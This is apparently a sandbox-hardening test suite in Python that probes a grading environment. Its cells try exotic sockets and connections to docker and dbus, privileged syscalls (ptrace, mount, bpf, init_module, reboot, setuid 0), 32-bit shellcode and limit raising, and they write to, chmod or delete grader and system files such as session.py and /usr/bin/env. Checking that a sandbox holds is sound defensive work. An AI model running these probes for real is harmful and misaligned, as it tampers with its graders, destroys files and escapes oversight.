# Ways around the walls: sockets, system calls, limits and files that others use.


# %% family
# after: report
# shows: CLOSED


# %% piece report
import functools


@functools.cache
def told():
    found, tried = probe()
    return " ".join(["LEAKED:" + str(each)[:80] for each in found] or ["CLOSED"]) + f" ({tried} tried)"


def simple_ann_MSE(*_):
    raise RuntimeError(told())


simple_ann_CE = simple_ann_MSE


# %% network | makes sockets of every family, and connects to sockets of the machine
import socket

KINDS = {"inet": (socket.AF_INET, socket.SOCK_STREAM), "udp": (socket.AF_INET, socket.SOCK_DGRAM),
         "inet6": (socket.AF_INET6, socket.SOCK_STREAM), "raw": (socket.AF_INET, socket.SOCK_RAW),
         "netlink": (socket.AF_NETLINK, socket.SOCK_RAW), "packet": (socket.AF_PACKET, socket.SOCK_RAW),
         "vsock": (socket.AF_VSOCK, socket.SOCK_STREAM), "alg": (socket.AF_ALG, socket.SOCK_SEQPACKET),
         "bluetooth": (31, socket.SOCK_RAW), "can": (socket.AF_CAN, socket.SOCK_RAW), "tipc": (30, socket.SOCK_RDM)}


def probe():
    found = []
    for name, kind in KINDS.items():
        for make in (socket.socket, socket.socketpair):
            try:
                make(*kind)
                found.append(f"{name} socket")
            except OSError:
                pass
    for name in ("\0grader", "\0/tmp/dbus", "/run/dbus/system_bus_socket", "/run/docker.sock", "/tmp/.X11-unix/X0"):
        try:
            socket.socket(socket.AF_UNIX).connect(name)
            found.append(f"connected {name!r}")
        except OSError:
            pass
    try:
        socket.getaddrinfo("localhost", 22)
        socket.create_connection(("127.0.0.1", 22), 0.2)
        found.append("loopback")
    except OSError:
        pass
    return found, len(KINDS)


# %% system calls | tries namespaces, mounts, keys, tracing, rings and modules by number
import ctypes
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
# name: number on x86_64, on aarch64, arguments that would do no harm
CALLS = {
    "ptrace": (101, 117, 0, 0, 0, 0), "mount": (165, 40, b"tmpfs", b"/tmp", b"tmpfs", 0, 0), "umount": (166, 39, b"/proc", 2),
    "chroot": (161, 51, b"/tmp"), "pivot_root": (155, 41, b"/tmp", b"/tmp"), "unshare user": (272, 97, 0x10000000),
    "unshare mounts": (272, 97, 0x20000), "setns": (308, 268, 3, 0), "keyctl": (250, 219, 0, -3, 1),
    "add_key": (248, 217, b"user", b"a", b"b", 1, -4), "bpf": (321, 280, 0, 0, 0), "io_uring": (425, 425, 1, bytes(120)),
    "perf_event_open": (298, 241, bytes(120), 0, -1, -1, 0), "userfaultfd": (323, 282, 1), "memfd": (319, 279, b"m", 0),
    "shmget": (29, 194, 0, 4096, 0o1600), "msgget": (68, 186, 0, 0o1600), "semget": (64, 190, 0, 1, 0o1600),
    "vmsplice": (278, 75, 1, 0, 0, 0), "io_setup": (206, 0, 1, bytes(8)), "inotify_init1": (294, 26, 0),
    "setsid": (112, 157), "open_by_handle_at": (304, 265, 3, bytes(64), 0), "personality": (135, 92, 0x40000),
    "fsopen": (430, 430, b"tmpfs", 0), "open_tree": (428, 428, -100, b"/", 1), "syslog": (103, 116, 3, bytes(64), 64),
    "mq_open": (240, 180, b"queue", 0o102, 0o600, 0), "reboot": (169, 142, 0, 0, 0), "swapon": (167, 224, b"/tmp/x", 0),
    "acct": (163, 89, b"/tmp/a"),
    "process_vm_readv": (310, 270, 1, 0, 0, 0, 0, 0), "kcmp": (312, 272, 1, 1, 0, 0, 0), "pidfd_getfd": (438, 438, 3, 1, 0),
    "quotactl": (179, 60, 0x800001, 0, 0, 0), "init_module": (175, 105, b"", 0, b""), "clone3": (435, 435, bytes(88), 88),
    "mknod": (259, 33, -100, b"/tmp/disk", 0o60600, 0x800), "setuid 0": (105, 146, 0), "setgroups": (116, 159, 1, bytes(4)),
}
COLUMN = 0 if platform.machine() == "x86_64" else 1


def probe():
    found = []
    for name, call in CALLS.items():
        arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in call[2:]]
        if libc.syscall(ctypes.c_long(call[COLUMN]), *arguments) >= 0:
            found.append(name)
    for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
        child = libc.syscall((56, 220)[COLUMN], ctypes.c_long(flag | signal.SIGCHLD), 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            found.append(f"clone {flag:#x}")
    if libc.syscall(ctypes.c_long(0x40000000 | 39)) >= 0:
        found.append("the x32 calls")
    return found, len(CALLS)


# %% 32-bit calls | calls the kernel by the 32-bit entry, whose numbers are others
# after: called
# shows: was ended by SIGSYS
import ctypes
import mmap


def attack(*_):
    code = b"\xb8\x14\0\0\0\xcd\x80\xc3"  # mov eax, 20 (getpid of 32-bit programs); int 0x80; ret
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    number = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    raise RuntimeError(f"LEAKED:a 32-bit call, {number}")


# %% limits | raises its limits, its priority and its rights
import os
import resource


def probe():
    found, names = [], [name for name in dir(resource) if name.startswith("RLIMIT_")]
    for name in names:
        what = getattr(resource, name)
        hard = resource.getrlimit(what)[1]
        for more in (hard + 1, resource.RLIM_INFINITY):
            try:
                if hard != resource.RLIM_INFINITY:
                    resource.setrlimit(what, (more, more))
                    found.append(f"{name} raised")
            except (ValueError, OSError):
                pass
    for what, act in {
        "real-time": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
        "a better nice": lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
        "others' nice": lambda: os.setpriority(os.PRIO_USER, 65534, -1),
        "root": lambda: os.setresuid(0, 0, 0),
        "root's group": lambda: os.setresgid(0, 0, 0),
        "chown": lambda: os.chown("/tmp", 0, 0),
    }.items():
        try:
            act()
            found.append(what)
        except OSError:
            pass
    return found, len(names)


# %% writes | writes to the libraries, the engine and the system
import os
import sys

FOLDERS = ["/", "/usr", "/usr/bin", "/etc", "/grader", "/grader/grader/worker", "/dev", "/dev/pts", "/proc", "/bin",
           sys.prefix, os.path.dirname(os.__file__), "/var", "/run", "/home", "/root", "/vectors"]
FILES = ["/grader/grader/worker/session.py", "/usr/bin/env", os.__file__, "/etc/ld.so.cache", "/vectors/table.npy"]


def probe():
    found = []
    for folder in FOLDERS:
        try:
            os.close(os.open(f"{folder}/planted", os.O_CREAT | os.O_WRONLY))
            found.append(folder)
        except OSError:
            pass
    for file in FILES:
        for act in (lambda: os.close(os.open(file, os.O_WRONLY)), lambda: os.chmod(file, 0o777), lambda: os.unlink(file)):
            try:
                act()
                found.append(file)
            except OSError:
                pass
    return found, len(FOLDERS) + len(FILES)
